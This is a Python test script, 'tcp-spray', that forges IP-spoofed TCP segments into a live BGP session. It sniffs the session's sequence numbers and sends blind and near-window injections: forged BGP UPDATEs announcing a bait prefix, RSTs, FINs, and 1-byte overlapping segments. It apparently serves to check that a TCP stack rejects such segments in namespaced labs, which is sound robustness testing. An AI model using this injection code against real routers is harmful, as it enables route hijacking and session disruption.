#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""tcp-spray: forged segments into a live IPv4 session PEER -> LOCAL:179.

Sends from the attacker's namespace (-x NETNS, raw socket, source spoofed to
PEER).  The session's live numbers (LOCAL's rcv_nxt = the ACK of its latest
segment, its snd_nxt = that segment's sequence number, the right edge of its
receive window with the scale -w from `ss -ti`) are read by sniffing LOCAL's
link (-s NETNS -i IFACE): what an on-path observer sees.  The blind parts
never use them.

Modes:
  blind -N COUNT -A ACKS
      blind: COUNT segments carrying a complete valid UPDATE for the bait
      198.51.100.0/24, sequence numbers spread evenly over 2^32 (a random
      point in each slice), ACK numbers cycling through ACKS guesses spread
      over 2^32; then COUNT/4 RSTs and COUNT/4 FINs likewise.
      near-real (from the sniffed numbers; each kind is one that LOCAL's TCP
      refuses, 20 segments each):
        badack   the bait in the window, ACK of 1 MiB LOCAL never sent
        noack    the bait in the window, no ACK flag
        oldack   the bait in the window, ACK 1 GiB behind LOCAL's snd_nxt
                 (older than snd_una - max window: RFC 5961 5.2)
        oow      the bait 1 MiB beyond the window's right edge
        rst      RSTs in the window at odd offsets from rcv_nxt (real
                 segments are MSS-sized, even: never exact; RFC 5961 3.2
                 challenge ACK only), and just behind rcv_nxt
        fin      FINs in the window at odd offsets (held by TCP, dropped when
                 real data passes them), at rcv_nxt with a bad ACK / no ACK,
                 and beyond the window
  burst -N COUNT -f STREAM
      COUNT 1-byte segments at rcv_nxt+1, +3, +5, ... (in the window, ahead
      of the real data, never adjacent), correct ACK, each carrying the byte
      the real stream has there (STREAM: the speaker's UPDATEs, located by a
      sniffed segment's payload), so TCP's own stream stays intact.

-X KIND,... leaves kinds out.  Prints one line per kind sent and "sent
TOTAL"; exit 0.
"""
import argparse
import importlib.util
import os
import random
import socket
import struct
import sys
import time

_spec = importlib.util.spec_from_file_location(
    'tcp_inject', os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tcp-inject.py'))
ti = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(ti)

ETH_P_ALL, ETH_P_IP = 0x0003, 0x0800
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
BAIT_AS = 4200000100


def bait_update(nexthop):
    attrs = (b'\x40\x01\x01\x00' +                              # ORIGIN IGP
             b'\x40\x02\x06\x02\x01' + struct.pack('!I', BAIT_AS) +  # AS_PATH
             b'\x40\x03\x04' + socket.inet_aton(nexthop))       # NEXT_HOP
    nlri = b'\x18' + bytes([198, 51, 100])
    body = struct.pack('!H', 0) + struct.pack('!H', len(attrs)) + attrs + nlri
    return b'\xff' * 16 + struct.pack('!HB', 19 + len(body), 2) + body


class Forger:
    def __init__(self, netns, src, dst, sport, dport):
        self.raw = ti.raw_socket_in(netns, socket.AF_INET)
        self.src, self.dst = socket.inet_aton(src), socket.inet_aton(dst)
        self.daddr = dst
        self.sport, self.dport = sport, dport
        self.sent = 0

    def packet(self, seq, ack, flags, payload=b''):
        th = struct.pack('!HHIIBBHHH', self.sport, self.dport, seq & 0xffffffff,
                         ack & 0xffffffff, 5 << 4, flags, 1024, 0, 0)
        seg = th + payload
        c = ti.csum(self.src + self.dst + struct.pack('!BBH', 0, 6, len(seg)) + seg)
        seg = seg[:16] + struct.pack('!H', c) + seg[18:]
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(seg), 0, 0x4000, 64, 6, 0,
                         self.src, self.dst)
        return ip[:10] + struct.pack('!H', ti.csum(ip)) + ip[12:] + seg

    def send(self, pkts):
        for p in pkts:
            self.raw.sendto(p, (self.daddr, 0))
        self.sent += len(pkts)


def sniff(netns, iface, peer, local, lport, want_data=False, timeout=30):
    """Numbers of the session from LOCAL's latest segment (and, with
    want_data, a data segment of PEER's of 256 bytes or more)."""
    # (ETH_P_ALL: only such a socket sees the packets LOCAL sends)
    s = ti.socket_in(netns, socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    s.bind((iface, ETH_P_ALL))
    s.settimeout(1)
    pa, la = socket.inet_aton(peer), socket.inet_aton(local)
    out, data = None, None
    deadline = time.time() + timeout
    while time.time() < deadline and (out is None or (want_data and data is None)):
        try:
            pkt, addr = s.recvfrom(65536)
        except socket.timeout:
            continue
        if addr[1] != ETH_P_IP or len(pkt) < 40 or pkt[9] != 6:
            continue
        ihl = (pkt[0] & 15) * 4
        sp, dp, seq, ack, off, flags, win = struct.unpack('!HHIIBBH', pkt[ihl:ihl + 16])
        payload = pkt[ihl + (off >> 4) * 4:struct.unpack('!H', pkt[2:4])[0]]
        if pkt[12:16] == la and pkt[16:20] == pa and sp == lport and flags & ACK:
            out = {'pport': dp, 'rcv_nxt': ack, 'snd_nxt': seq, 'win': win}
        elif pkt[12:16] == pa and pkt[16:20] == la and dp == lport and len(payload) >= 256:
            data = (seq, payload)
    s.close()
    if out is None or (want_data and data is None):
        sys.exit('tcp-spray: no live segment of the session seen on %s' % iface)
    out['data'] = data
    return out


def blind(a, f, live):
    rnd = random.Random(13)
    bait = bait_update(a.peer)
    slice_ = (1 << 32) // a.count
    acks = [(k << 32) // a.acks + rnd.getrandbits(24) for k in range(a.acks)]
    seqs = [i * slice_ + rnd.randrange(slice_) for i in range(a.count)]
    kinds = [
        ('blind-data', [f.packet(q, acks[i % a.acks], ACK | PSH, bait) for i, q in enumerate(seqs)]),
        ('blind-rst', [f.packet(q, acks[i % a.acks], RST | (ACK if i % 2 else 0))
                       for i, q in enumerate(seqs[::4])]),
        ('blind-fin', [f.packet(q, acks[i % a.acks], FIN | ACK) for i, q in enumerate(seqs[1::4])]),
    ]
    r, s, edge = live['rcv_nxt'], live['snd_nxt'], live['wnd_end']
    # Odd offsets from rcv_nxt, within the first half of the window.
    span = (edge - r) & 0xffffffff
    inwin = [r + 1 + 2 * rnd.randrange(max(1, span // 4)) for _ in range(20)]
    kinds += [
        ('near-badack', [f.packet(q, s + (1 << 20), ACK | PSH, bait) for q in inwin]),
        ('near-noack', [f.packet(q, s, PSH, bait) for q in inwin]),
        ('near-oldack', [f.packet(q, s - (1 << 30), ACK | PSH, bait) for q in inwin]),
        ('near-oow', [f.packet(edge + (1 << 20) + 1000 * k, s, ACK | PSH, bait) for k in range(20)]),
        ('near-rst', [f.packet(q, s, RST | ACK) for q in inwin] +
         [f.packet(r - 1000 - k, s, RST) for k in range(20)]),
        ('near-fin', [f.packet(q, s, FIN | ACK) for q in inwin] +
         [f.packet(r, s + (1 << 20), FIN | ACK) for _ in range(5)] +
         [f.packet(r, s, FIN) for _ in range(5)] +
         [f.packet(edge + (1 << 20) + k, s, FIN | ACK) for k in range(10)]),
    ]
    return kinds


def burst(a, f, live):
    stream = open(a.stream, 'rb').read()
    seq, payload = live['data']
    at = stream.find(payload)
    if at < 0 or stream.find(payload, at + 1) >= 0:
        sys.exit('tcp-spray: the sniffed segment is not once in %s' % a.stream)
    base = (seq - at) & 0xffffffff		# sequence number of stream[0]
    r, s, edge = live['rcv_nxt'], live['snd_nxt'], live['wnd_end']
    n = min(a.count, ((edge - r) & 0xffffffff) // 2 - 1)
    pkts = []
    for i in range(n):
        q = (r + 1 + 2 * i) & 0xffffffff
        o = (q - base) & 0xffffffff
        if o >= len(stream):
            break
        pkts.append(f.packet(q, s, ACK | PSH, stream[o:o + 1]))
    print('tcp-spray: burst: window %d bytes ahead of rcv_nxt, stream offset %d' %
          ((edge - r) & 0xffffffff, (r - base) & 0xffffffff))
    return [('burst-1byte', pkts)]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('mode', choices=['blind', 'burst'])
    ap.add_argument('-x', dest='netns', required=True)
    ap.add_argument('-s', dest='sniff_ns', required=True)
    ap.add_argument('-i', dest='iface', required=True)
    ap.add_argument('-w', dest='wscale', type=int, required=True)
    ap.add_argument('-N', dest='count', type=int, default=2000)
    ap.add_argument('-A', dest='acks', type=int, default=4)
    ap.add_argument('-f', dest='stream')
    ap.add_argument('-X', dest='skip', default='', help='kinds to leave out (comma-separated)')
    ap.add_argument('--peer', default='10.0.1.1')
    ap.add_argument('--local', default='10.0.1.2')
    ap.add_argument('--port', type=int, default=179)
    a = ap.parse_args()
    live = sniff(a.sniff_ns, a.iface, a.peer, a.local, a.port, want_data=a.mode == 'burst')
    live['wnd_end'] = (live['rcv_nxt'] + (live['win'] << a.wscale)) & 0xffffffff
    print('tcp-spray: live rcv_nxt=%u snd_nxt=%u window=%u (peer port %d)' %
          (live['rcv_nxt'], live['snd_nxt'], live['win'] << a.wscale, live['pport']))
    f = Forger(a.netns, a.peer, a.local, live['pport'], a.port)
    t0 = time.time()
    for name, pkts in (blind if a.mode == 'blind' else burst)(a, f, live):
        if name in a.skip.split(','):
            continue
        t1 = time.time()
        f.send(pkts)
        print('tcp-spray: %s: %d segments in %.2f s' % (name, len(pkts), time.time() - t1))
    print('tcp-spray: sent %d in %.2f s' % (f.sent, time.time() - t0))
    sys.stdout.flush()
    return 0


if __name__ == '__main__':
    sys.exit(main())
